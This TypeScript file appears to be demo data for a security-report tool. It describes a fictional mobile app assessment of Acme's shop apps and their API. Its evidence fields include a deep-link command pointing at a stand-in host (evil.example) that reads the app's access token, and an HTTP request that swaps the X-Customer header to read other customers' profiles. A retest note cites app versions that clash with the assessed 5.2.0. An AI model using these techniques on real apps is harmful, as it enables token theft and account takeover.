import type { DemoEngagement } from './demo-engagement.ts';

const android = { host: 'com.acme.shop (Android 5.2.0)' };
const ios = { host: 'com.acme.shop (iOS 5.2.0)' };
const api = { host: 'mobile-api.acme.example', ip: '192.0.2.15', port: 443 };

export const acmeMobile: DemoEngagement = {
  title: 'Shop app for Android and iOS',
  type: 'Mobile App Vulnerability Assessment',
  status: 'Completed',
  startsDaysAgo: 78,
  lastsDays: 9,
  summary:
    'Both apps and their API were examined on real and on opened devices. **The token that keeps people signed in can be taken from an Android backup**, and a deep link opens foreign pages with the rights of the app. The iOS app stores its secrets properly.',
  methodology: 'OWASP MASVS 2.1 (levels 1 and 2) and the matching tests of the MASTG, static and dynamic.',
  scope: [
    { kind: 'Android app', value: 'com.acme.shop 5.2.0' },
    { kind: 'iOS app', value: 'com.acme.shop 5.2.0' },
    { kind: 'API', value: 'https://mobile-api.acme.example' },
  ],
  team: [
    { name: 'Tomas Novotny', role: 'Lead' },
    { name: 'Priya Raman', role: 'Tester' },
  ],
  findings: [
    {
      title: 'Deep link opens any page with the bridge of the app',
      vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:H/I:H/A:N',
      status: 'Retest',
      cwe: 939,
      tags: ['webview', 'masvs-platform'],
      description:
        'The link `acmeshop://open?url=` loads the given address into the view that carries the JavaScript bridge `Acme`. The check looks for `acme.example` anywhere in the address.',
      impact:
        'A link in a mail or a QR code is enough to read the access token and to order in the name of the customer.',
      recommendation: 'Compare the host exactly, allow https only, and load everything else in the browser.',
      evidence:
        '```text\nadb shell am start -d "acmeshop://open?url=https://evil.example/?acme.example"\n> Acme.getToken()\n"eyJhbGciOi…"\n```',
      references: ['https://mas.owasp.org/MASTG/tests/android/MASVS-PLATFORM/MASTG-TEST-0031/'],
      retest: {
        by: 'user@acme.example',
        daysAgo: 6,
        message: 'The host is compared exactly since version 3.8.1.',
        question: 'The store still hands out 3.8.0 to our test devices. Can you send us the build of 3.8.1?',
      },
      assets: [{ ...android, location: 'DeepLinkActivity' }],
    },
    {
      title: 'Refresh token in the Android backup',
      vector: 'CVSS:3.1/AV:P/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N',
      status: 'Fixed',
      cwe: 530,
      tags: ['storage', 'masvs-storage'],
      description: 'The token is kept in shared preferences, and the manifest allows backups.',
      impact:
        'Whoever holds the unlocked phone for a minute, or the backup in the cloud, stays signed in as the customer.',
      recommendation: 'Keep the token under a key of the Android Keystore and exclude it from backups.',
      evidence: '`shared_prefs/session.xml: <string name="refresh">…</string>`',
      assets: [{ ...android, location: 'shared_prefs/session.xml' }],
    },
    {
      title: 'API key of the map service without restriction',
      vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:L',
      status: 'Fixed',
      cwe: 798,
      tags: ['secrets'],
      description: 'The key inside both apps can be used from anywhere.',
      impact: 'Foreign use is billed to Acme and can exhaust the quota of the branch finder.',
      recommendation: 'Restrict the key to the signatures of the apps and set a daily quota.',
      evidence: '`res/values/strings.xml: AIza…mQ`, accepted from an outside address.',
      assets: [
        { ...android, location: 'res/values/strings.xml' },
        { ...ios, location: 'Info.plist' },
      ],
    },
    {
      title: 'Profile of other customers by changing the header X-Customer',
      vector: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:N/VC:H/VI:L/VA:N/SC:N/SI:N/SA:N',
      status: 'Open',
      cwe: 639,
      tags: ['access-control', 'owasp-api1'],
      description: 'The mobile API trusts the header that the app sends beside the token.',
      impact: 'Name, address and loyalty points of any customer can be read, and the points spent.',
      recommendation: 'Take the customer from the token alone and drop the header at the gateway.',
      evidence:
        '```http\nGET /profile HTTP/1.1\nAuthorization: Bearer <token of A>\nX-Customer: 58213\n\nHTTP/1.1 200 OK\n{"customer":58213,"points":1240}\n```',
      assets: [
        { ...api, location: '/profile' },
        { ...api, location: '/points/spend' },
      ],
    },
    {
      title: 'Certificates are not pinned',
      vector: 'CVSS:3.1/AV:A/AC:H/PR:N/UI:R/S:U/C:L/I:L/A:N',
      status: 'Acknowledged',
      comment:
        'Decided against pinning: a missed rotation would lock customers out. Certificate transparency is watched instead.',
      cwe: 295,
      tags: ['network', 'masvs-network'],
      description: 'The apps trust every authority that the device trusts.',
      impact: 'On a device with a foreign root certificate the traffic can be read.',
      recommendation: 'Pin the public key of the intermediate with a backup key, for the API host alone.',
      evidence: 'All requests were visible through a proxy whose certificate was installed on the device.',
      assets: [android, ios],
    },
    {
      title: 'Screens with personal data in the app switcher',
      vector: 'CVSS:3.1/AV:P/AC:L/PR:N/UI:N/S:U/C:L/I:N/A:N',
      status: 'Fixed',
      cwe: 200,
      tags: ['masvs-platform'],
      description: 'The picture of the last screen shows addresses and the last digits of cards.',
      impact: 'Readable by whoever holds the phone.',
      recommendation: 'Set `FLAG_SECURE` on Android, and cover the window on iOS when the app leaves the foreground.',
      evidence: 'Snapshot in `Library/SplashBoard/Snapshots`.',
      assets: [android, ios],
    },
    {
      title: 'App runs on opened devices without a word',
      severity: 'info',
      status: 'Acknowledged',
      comment: 'Accepted: nothing in the app is worth more than the account itself.',
      cwe: 693,
      tags: ['masvs-resilience'],
      description: 'There is no check for opened or emulated devices.',
      impact: 'Makes analysis easier, nothing more.',
      recommendation: 'Consider a warning; do not refuse to run.',
      evidence: 'All tests ran with Frida attached.',
      assets: [android, ios],
    },
  ],
};
